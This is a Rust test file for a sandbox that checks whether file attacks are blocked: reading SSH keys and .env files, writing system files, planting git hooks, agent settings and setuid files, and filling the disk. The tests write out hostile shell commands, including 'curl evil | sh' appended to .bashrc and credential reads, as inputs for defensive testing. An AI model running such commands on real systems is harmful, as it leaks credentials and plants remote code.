@@ -1,0 +1,238 @@
+//! In tier B, which attacks on files does the box stop, and does ordinary work with files go on beside them?
+//!
+//! Numbers are those of the attack catalogue (F). Every attack has its twin. Each test runs where no user namespace can be
+//! made, as an ordinary user and as root.
+#![expect(
+    clippy::unwrap_used,
+    clippy::indexing_slicing,
+    reason = "a test may stop, and plays what is outside the box"
+)]
+mod support;
+use bartizan_sandbox::writeback::{self, Change};
+use bartizan_sandbox::{Accept, Access, BoxSpec, Reason, SyntheticFile, WorkspaceMode};
+use std::fs;
+use std::os::fd::AsFd;
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::path::PathBuf;
+use support::{Outcome, Place, drain, exists, run_b, start_b};
+
+/// A place that every user of this machine may enter, so that only the box's walls keep it out.
+fn open_place() -> Place {
+    let place = Place::new();
+    fs::set_permissions(place.directory.path(), fs::Permissions::from_mode(0o755)).unwrap();
+    place
+}
+
+/// A file of the person's that anybody may read and write.
+fn victim(place: &Place, name: &str) -> PathBuf {
+    let path = place.path(name);
+    fs::create_dir_all(path.parent().unwrap()).unwrap();
+    fs::write(&path, "TOP-SECRET").unwrap();
+    fs::set_permissions(&path, fs::Permissions::from_mode(0o666)).unwrap();
+    path
+}
+
+/// Runs a box and returns what write-back makes of its changes, line by line.
+fn run_and_list(place: &Place, spec: &BoxSpec) -> (Outcome, Vec<String>) {
+    std::thread::sleep(std::time::Duration::from_millis(30));
+    let since = writeback::session_start();
+    let mut running = start_b(place, spec);
+    let outcome = drain(&mut running);
+    let upper = running.upper.as_ref().unwrap();
+    let listed = writeback::list(upper.as_fd(), running.workspace.as_fd(), since).unwrap();
+    let line = |change: &Change| {
+        let lands = if change.lands() { "" } else { " (held)" };
+        format!("{} {}{lands}", change.kind(), change.path())
+    };
+    let mut lines: Vec<_> = listed.iter().map(line).collect();
+    lines.sort();
+    (outcome, lines)
+}
+
+in_tier_b! {
+    fn f01_f02_f03_what_the_person_has_elsewhere_cannot_be_read_or_listed() {
+        let place = open_place();
+        let key = victim(&place, "home/.ssh/id_rsa");
+        let sibling = victim(&place, "other/.env");
+        let mut spec = place.spec(&format!(
+            "cat readme.txt; cat {0} {1} ../../../other/.env ~/.ssh/id_rsa; ls {2} {3}; ls / /home /root; cat /proc/self/root{0}; \
+             ln -s {0} link; cat link; cp {0} x; find {3} -name id_rsa -exec cat {{}} ';'; ls -A ~ | wc -l; ls",
+            key.display(), sibling.display(), key.parent().unwrap().display(), place.path("").display()
+        ));
+        spec.home = place.path("home");
+        let outcome = run_b(&place, &spec).succeeded();
+        assert_eq!(outcome.stdout, "hello from the host\n0\nlink\nreadme.txt\n", "{outcome:#?}");
+        assert!(outcome.stderr.matches("Permission denied").count() >= 7, "{outcome:#?}");
+    }
+
+    fn f05_the_system_cannot_be_written_and_the_boxs_own_folders_can() {
+        let place = open_place();
+        let outcome = run_b(&place, &place.spec(
+            "for f in /usr/x /etc/x /x /bin/x /tmp/bartizan-x /var/tmp/bartizan-x /dev/shm/bartizan-x /dev/x; do touch $f && echo WROTE $f; done; \
+             rm -f /usr/bin/env && echo REMOVED; echo x >> /etc/passwd && echo APPENDED; chmod 777 /usr/bin/env && echo CHMOD; \
+             touch here ~/here $TMPDIR/here && mktemp -d > /dev/null && echo fine; echo gone > /dev/null && echo null; python3 -c 'import tempfile; tempfile.TemporaryFile().write(b\"x\")' && echo temporary",
+        ));
+        assert_eq!(outcome.stdout, "fine\nnull\ntemporary\n", "{outcome:#?}");
+        for path in ["/usr/x", "/x", "/tmp/bartizan-x", "/var/tmp/bartizan-x", "/dev/shm/bartizan-x"] {
+            assert!(!exists(path.as_ref()), "{path}");
+        }
+    }
+
+    fn f06_f07_nothing_is_written_through_the_home_directory_or_a_link() {
+        let place = open_place();
+        let rc = victim(&place, "home/.bashrc");
+        let mut spec = place.spec(&format!(
+            "echo 'curl evil | sh' >> ~/.bashrc; cat ~/.bashrc; ln -s {0} mine; echo x > mine; echo x > {0}; truncate -s 0 {0}; mv {0} gone; rm -f {0}; \
+             ln {0} hard; echo x > hard; mkdir -p {1}/new; true", rc.display(), place.path("home").display()
+        ));
+        spec.home = place.path("home");
+        let outcome = run_b(&place, &spec).succeeded();
+        assert_eq!(outcome.stdout, "curl evil | sh\n", "{outcome:#?}");
+        assert_eq!(fs::read_to_string(&rc).unwrap(), "TOP-SECRET");
+        assert!(!exists(&place.path("home/new")));
+    }
+
+    fn what_landlock_does_not_look_at_is_changed_in_the_boxs_folders_only() {
+        let place = open_place();
+        let file = victim(&place, "home/.ssh/config");
+        let folder = file.parent().unwrap().to_owned();
+        let tool = victim(&place, "tools/tool");
+        fs::set_permissions(&tool, fs::Permissions::from_mode(0o755)).unwrap();
+        let before = |path: &PathBuf| {
+            let about = path.metadata().unwrap();
+            (about.mode(), about.mtime(), about.uid(), about.gid())
+        };
+        let (was_file, was_tool, was_folder) = (before(&file), before(&tool), before(&folder));
+        let mut spec = place.python(&format!(
+            "import os, ctypes\nfile, tool, folder = '{}', '{}', '{}'\nlibc = ctypes.CDLL(None, use_errno=True)\n\
+             def no(what, f):\n  try: f(); print('DID', what)\n  except OSError as e: pass\n\
+             os.symlink(file, 'link'); os.symlink(folder, 'dir')\n\
+             for p in (file, tool, folder, 'link', 'dir/config', os.path.relpath(file)):\n  \
+               no('chmod ' + p, lambda: os.chmod(p, 0)); no('utime ' + p, lambda: os.utime(p, (1, 1))); no('xattr ' + p, lambda: os.setxattr(p, 'user.x', b'y'))\n  \
+               no('chown ' + p, lambda: os.chown(p, 12345, 12345)); no('truncate ' + p, lambda: os.truncate(p, 0))\n\
+             f = os.open(tool, os.O_RDONLY); no('fchmod', lambda: os.fchmod(f, 0o777)); no('futimens', lambda: os.utime(f, (1, 1))); no('fsetxattr', lambda: os.setxattr(f, 'user.x', b'y'))\n\
+             no('proc', lambda: os.chmod('/proc/self/fd/%d' % f, 0))\n\
+             d = os.open(folder, os.O_PATH); no('fchmodat', lambda: os.chmod('config', 0, dir_fd=d))\n\
+             os.mkdir('own'); open('own/f', 'w').close(); os.chmod('own/f', 0o750); os.utime('own/f', (10, 20)); o = os.open('own/f', os.O_RDONLY); os.fchmod(o, 0o640); os.utime(o, (30, 40))\n\
+             d = os.open('own', os.O_RDONLY); os.chmod('f', 0o600, dir_fd=d); os.utime('f', ns=(5, 6000000007), dir_fd=d); os.chown('own/f', os.getuid(), -1); os.symlink('f', 'own/s'); os.utime('own/s', (1, 2), follow_symlinks=False)\n\
+             os.chdir('own'); os.chmod('f', 0o604); s = os.stat('f'); print(oct(s.st_mode), s.st_mtime_ns, os.lstat('s').st_mtime)\n\
+             no('setuid', lambda: os.chmod('f', 0o4755))",
+            file.display(), tool.display(), folder.display()
+        ));
+        spec.readable.push(place.path("tools"));
+        let outcome = run_b(&place, &spec).succeeded();
+        assert_eq!(outcome.stdout, "0o100604 6000000007 2.0\n", "{outcome:#?}");
+        assert_eq!((before(&file), before(&tool), before(&folder)), (was_file, was_tool, was_folder));
+    }
+
+    fn f11_to_f21_the_write_back_gate_judges_the_copy_as_it_judges_an_overlay() {
+        let place = open_place();
+        fs::create_dir_all(place.workspace.join(".git/hooks")).unwrap();
+        fs::write(place.workspace.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+        fs::write(place.workspace.join("old.txt"), "old").unwrap();
+        let (outcome, lines) = run_and_list(&place, &place.spec(
+            "echo edit > readme.txt; mkdir src && echo new > src/main.rs; rm old.txt; echo x > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
+             mkdir .claude && echo '{}' > .claude/settings.json; echo x > .envrc; ln -s /etc/passwd out; mkdir -p sub/.git/hooks; echo x > sub/.git/hooks/pre-push; \
+             mkfifo p; mknod b b 8 0; touch s && chmod 4755 s; true",
+        ));
+        outcome.succeeded();
+        for line in ["changed readme.txt", "new src/main.rs", "deleted old.txt", "new .git/hooks/pre-commit (held)", "new .claude/settings.json (held)",
+            "new .envrc (held)", "link to `/etc/passwd` out (held)", "new sub/.git/hooks/pre-push (held)", "special file p (held)"] {
+            assert!(lines.iter().any(|seen| seen == line), "{line}\n{lines:#?}");
+        }
+        assert_eq!(fs::read_to_string(place.workspace.join("readme.txt")).unwrap(), "hello from the host\n");
+        assert!(!exists(&place.workspace.join("b")) && !lines.iter().any(|line| line.contains(" b")));
+    }
+
+    fn ordinary_work_lands_and_the_copy_is_gone_afterwards() {
+        let place = open_place();
+        std::thread::sleep(std::time::Duration::from_millis(30));
+        let since = writeback::session_start();
+        let mut running = start_b(&place, &place.spec("pwd; git init -q . && git config user.email a@b && git config user.name n && echo work > work.txt && git add . && git commit -qm work && git log --oneline | wc -l"));
+        let outcome = drain(&mut running).succeeded();
+        let (at, commits) = outcome.stdout.split_once('\n').unwrap();
+        assert_eq!(commits, "1\n", "{outcome:#?}");
+        assert!(at.ends_with("/work/project") && exists(at.as_ref()));
+        let upper = running.upper.take().unwrap();
+        let changes = writeback::list(upper.as_fd(), running.workspace.as_fd(), since).unwrap();
+        let (journal, held) = (place.path("journal"), place.path("held"));
+        let options = writeback::Options { owner: None, journal: &journal, held: &held, progress: &mut |_, _| {} };
+        let applied = writeback::apply(&changes, upper.as_fd(), running.workspace.as_fd(), options).unwrap();
+        assert!(applied.landed().iter().any(|one| one.path.to_string() == "work.txt"), "{applied:?}");
+        assert_eq!(fs::read_to_string(place.workspace.join("work.txt")).unwrap(), "work\n");
+        drop(running);
+        assert!(!exists(at.as_ref()));
+    }
+
+    fn f22_no_device_and_no_setuid_file_is_made() {
+        let place = open_place();
+        let outcome = run_b(&place, &place.spec(
+            "mknod c c 1 5 && echo MADE; mknod w c 0 0 && echo WHITEOUT; touch s; chmod 4755 s && echo SETUID; chmod 2755 s && echo SETGID; install -m 4755 s t && echo INSTALLED; chmod 755 s && mkfifo p && echo fine",
+        ));
+        assert_eq!(outcome.stdout, "fine\n", "{outcome:#?}");
+    }
+
+    fn f23_the_disk_is_not_filled() {
+        let place = open_place();
+        let mut spec = place.spec("truncate -s 1T huge || echo limited; for i in $(seq 100); do head -c 20M /dev/zero > $TMPDIR/$i || exit; done; sleep 60");
+        spec.limits.scratch_bytes = 40 << 20;
+        spec.workspace_mode = WorkspaceMode::Overlay { size_bytes: 40 << 20, inodes: 1000 };
+        let outcome = run_b(&place, &spec);
+        assert_eq!(outcome.exit.reason, Reason::DiskLimit, "{outcome:#?}");
+    }
+
+    fn f24_a_run_leaves_nothing_for_the_next() {
+        let place = open_place();
+        let one = run_b(&place, &place.python("import os\nopen(os.environ['HOME'] + '/x', 'w'); open(os.environ['TMPDIR'] + '/x', 'w'); open('x', 'w'); print('made')\n\
+             import ctypes; l = ctypes.CDLL(None, use_errno=True); print(l.shmget(77, 4096, 0o1600), l.semget(77, 1, 0o1600), l.msgget(77, 0o1600))"));
+        assert_eq!(one.stdout, "made\n-1 -1 -1\n", "{one:#?}");
+        let two = run_b(&place, &place.spec("find ~ $TMPDIR . -name x; ls; echo done")).succeeded();
+        assert_eq!(two.stdout, "readme.txt\ndone\n", "{two:#?}");
+    }
+
+    fn f25_our_state_is_not_in_view() {
+        let place = open_place();
+        fs::create_dir_all(place.path("state")).unwrap();
+        let log = victim(&place, "state/store.db");
+        let outcome = run_b(&place, &place.spec(&format!("cat {0}; echo x >> {0}; ls {1}; cat ../../../store.db; ls ../..; echo done", log.display(), place.path("state").display())));
+        assert_eq!(outcome.stdout, "done\n", "{outcome:#?}");
+        assert_eq!(fs::read_to_string(log).unwrap(), "TOP-SECRET");
+    }
+
+    fn synthetic_files_and_what_is_shown_of_the_home_directory_are_found() {
+        let place = open_place();
+        let tool = victim(&place, "home/.local/bin/tool");
+        fs::write(&tool, "#!/bin/sh\necho tool in $0\n").unwrap();
+        fs::set_permissions(&tool, fs::Permissions::from_mode(0o755)).unwrap();
+        let mut spec = place.spec("~/.local/bin/tool | sed 's|/.*/||'; cat ~/.seed $BUNDLE; echo $BUNDLE | grep -c /files/etc/; echo x > ~/.local/bin/tool; echo x >> ~/.seed && echo seeded");
+        spec.home = place.path("home");
+        spec.readable.push(place.path("home/.local/bin"));
+        let file = |path: PathBuf, text: &str, access| SyntheticFile { path, contents: text.into(), mode: 0o644, access };
+        spec.synthetic.push(file(place.path("home/.seed"), "seed\n", Access::Writable));
+        spec.synthetic.push(file("/etc/ours/bundle.pem".into(), "bundle\n", Access::ReadOnly));
+        spec.env.push(("BUNDLE".into(), "/etc/ours/bundle.pem".into()));
+        let outcome = run_b(&place, &spec);
+        assert_eq!(outcome.stdout, "tool in tool\nseed\nbundle\n1\nseeded\n", "{outcome:#?}");
+        assert!(fs::read_to_string(&tool).unwrap().starts_with("#!"));
+    }
+
+    fn a_read_only_workspace_is_read_and_a_direct_one_is_the_owners_alone() {
+        let place = open_place();
+        let mut spec = place.spec("cat readme.txt; touch x || rm readme.txt || echo refused");
+        spec.workspace_mode = WorkspaceMode::ReadOnly;
+        assert_eq!(run_b(&place, &spec).stdout, "hello from the host\nrefused\n");
+        assert!(exists(&place.workspace.join("readme.txt")));
+        let mut spec = place.spec("pwd; echo changed > readme.txt; mkdir d; chmod 700 d; touch ../x");
+        spec.workspace_mode = WorkspaceMode::Direct;
+        if rustix::process::geteuid().is_root() {
+            let accept = Accept::OrB { folders: place.path("state") };
+            let refused = bartizan_sandbox::start(&spec, &accept).unwrap_err().to_string();
+            assert!(refused.contains("as root") && refused.contains("hint: leave `--direct` out"), "{refused}");
+        } else {
+            let outcome = run_b(&place, &spec);
+            assert_eq!(outcome.stdout, format!("{}\n", place.workspace.display()), "{outcome:#?}");
+            assert_eq!(fs::read_to_string(place.workspace.join("readme.txt")).unwrap(), "changed\n");
+            assert!(!exists(&place.path("x")));
+        }
+    }
+}
